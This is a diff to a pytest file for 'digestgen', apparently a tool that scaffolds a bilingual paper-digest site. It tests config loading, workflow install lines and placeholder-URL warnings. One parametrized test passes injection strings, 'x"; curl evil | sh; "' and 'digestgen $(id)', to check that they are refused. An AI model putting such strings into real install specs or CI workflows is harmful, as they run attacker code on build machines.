@@ -12,12 +12,16 @@ from click.testing import CliRunner
 from digestgen import __version__
 from digestgen.commands.init import init
 from digestgen.config import load_config
+from digestgen import configfile
+from digestgen.cli import main
+from digestgen.scaffold import CONFIG_TEXT
 from digestgen.load import load_content
 
 FILES = ["digestgen.yaml", "content/papers/2403.14715.yaml", ".gitignore",
          ".github/workflows/pages.yml"]
 SPEC_KEYS = ["title", "description", "base_url", "languages", "source_language",
-             "issue_period", "output_dir", "repo_url", "markdown", "html", "arxiv_api"]
+             "issue_period", "output_dir", "repo_url", "markdown", "html", "arxiv_api", "search",
+             "translate"]
 
 
 @pytest.fixture(autouse=True)
@@ -40,6 +44,21 @@ def snapshot(folder: Path) -> dict[str, bytes]:
             if p.is_file()}
 
 
+def test_the_commented_translate_example_is_a_valid_section(tmp_path, monkeypatch):
+    monkeypatch.chdir(tmp_path)
+    assert run_init("mydigest").exit_code == 0
+    config_path = tmp_path / "mydigest" / "digestgen.yaml"
+    lines = config_path.read_text().splitlines()
+    start = lines.index("# translate:")
+    example = [line[2:] for line in lines[start:] if line.startswith("# ")]
+    config_path.write_text("\n".join(lines[:start] + example) + "\n")
+    settings = load_config(config_path).translate
+    assert (settings.api, settings.model, settings.api_key_env) == \
+        ("https://api.openai.com/v1", "gpt-4o-mini", "OPENAI_API_KEY")
+    assert settings.glossary == tmp_path / "mydigest" / "glossary.yaml"
+    assert (settings.concurrency, settings.requests_per_minute, settings.timeout) == (4, 60, 60)
+
+
 def test_init_writes_a_site_that_loads(tmp_path, monkeypatch):
     monkeypatch.chdir(tmp_path)
     result = run_init("mydigest")
@@ -51,7 +70,8 @@ def test_init_writes_a_site_that_loads(tmp_path, monkeypatch):
     assert "cd mydigest\n  digestgen build" in result.output
 
     config = load_config(site / "digestgen.yaml")
-    assert config.title == "Paper Digest"
+    assert config.title_in("en") == "Paper Digest" and config.title_in("zh") == "论文速递"
+    assert set(SPEC_KEYS) - {"html"} == configfile._KEYS  # every key the reader knows
     assert config.base_url == "https://USER.github.io/REPO/"
     assert config.languages == ("zh", "en")
     assert config.output_dir == site / "site"
@@ -175,3 +195,39 @@ def test_init_then_build_gives_the_paper_page(tmp_path, monkeypatch):
     assert "理解为何标签平滑会降低选择性分类的效果以及如何解决这个问题" in html
     assert "Understanding Why Label Smoothing Degrades Selective Classification" in html
     assert (tmp_path / "mydigest/site/index.html").is_file()
+
+
+def test_the_workflow_installs_what_install_names(tmp_path):
+    spec = "git+https://github.com/alice/digestgen@v0.1.0"
+    assert run_init(str(tmp_path / "a"), "--install", spec).exit_code == 0
+    workflow = (tmp_path / "a" / ".github/workflows/pages.yml").read_text()
+    assert f'run: python -m pip install "{spec}"' in workflow
+    assert run_init(str(tmp_path / "b")).exit_code == 0
+    workflow = (tmp_path / "b" / ".github/workflows/pages.yml").read_text()
+    assert f'run: python -m pip install "digestgen=={__version__}"' in workflow
+
+
+@pytest.mark.parametrize("spec", ['x"; curl evil | sh; "', "digestgen $(id)", ""])
+def test_an_install_that_is_not_a_requirement_is_refused(tmp_path, spec):
+    result = run_init(str(tmp_path / "a"), "--install", spec)
+    assert result.exit_code == 2
+    assert "Invalid value for '--install'" in result.output
+    assert not (tmp_path / "a").exists()
+
+
+def test_build_and_check_warn_about_the_placeholder_base_url_and_deploy_refuses_it(tmp_path):
+    assert run_init(str(tmp_path / "a")).exit_code == 0
+    config = str(tmp_path / "a" / "digestgen.yaml")
+    runner = CliRunner()
+    warning = (f"Warning: {config}:"
+               f"{CONFIG_TEXT.splitlines().index('base_url: https://USER.github.io/REPO/') + 1}:"
+               " base_url is still the placeholder https://USER.github.io/REPO/")
+    for command in (["build", "-q"], ["check"]):
+        result = runner.invoke(main, [*command, "--config", config])
+        assert result.exit_code == 0, result.output
+        assert result.stderr.startswith(warning), result.stderr
+    result = runner.invoke(main, ["check", "--config", config, "--base-url", "https://a.b/"])
+    assert "placeholder" not in result.stderr
+    result = runner.invoke(main, ["deploy", "--config", config])
+    assert result.exit_code == 1
+    assert "base_url is still the placeholder" in result.stderr
